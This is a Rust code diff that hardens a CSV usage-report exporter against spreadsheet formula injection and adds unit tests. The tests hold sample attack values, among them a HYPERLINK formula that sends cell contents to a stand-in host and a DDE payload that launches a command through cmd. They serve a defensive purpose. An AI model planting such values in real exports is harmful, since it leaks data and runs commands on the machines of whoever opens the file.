@@ -172,7 +172,18 @@ impl UsageReport {
 
 /// A text as a field; what is not known is nothing, which differs from an empty text.
 fn quoted(text: Option<&str>) -> String {
-    text.map(|text| format!("\"{}\"", text.replace('"', "\"\""))).unwrap_or_default()
+    text.map(|text| format!("\"{}{}\"", no_formula(text), text.replace('"', "\"\""))).unwrap_or_default()
+}
+
+/// What stands before a text that a spreadsheet would take for a formula: users and workflows write these texts. Some programs look at the first
+/// character that is not white space, and take the wide forms of the characters as well.
+fn no_formula(text: &str) -> &'static str {
+    let begins = |text: &str| {
+        text.starts_with([
+            '=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
+        ])
+    };
+    if begins(text) || begins(text.trim_start()) { "'" } else { "" }
 }
 
 impl From<UsageSum> for SummedUsage {
@@ -197,5 +208,34 @@ impl From<UsageSum> for SummedUsage {
             cost: sum.cost,
             unpriced_calls: sum.unpriced_calls,
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn texts_of_strangers_are_no_formulas() {
+        for text in [
+            "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
+            "=cmd|' /C calc'!A0",
+            "@SUM(1)",
+            "+1+1",
+            "-2+3",
+            "\t=1",
+            "\r=1",
+            "\n=1",
+            " =1",
+            "\u{a0}=1",
+            "\u{ff1d}1",
+        ] {
+            let field = quoted(Some(text));
+            assert_eq!(field, format!("\"'{}\"", text.replace('"', "\"\"")), "{text}");
+        }
+        for text in ["ann", "a=b", "ann-monthly", "'quoted'", "", "2026-11-29", "東京"] {
+            assert_eq!(quoted(Some(text)), format!("\"{text}\""));
+        }
+        assert_eq!(quoted(None), "");
     }
 }
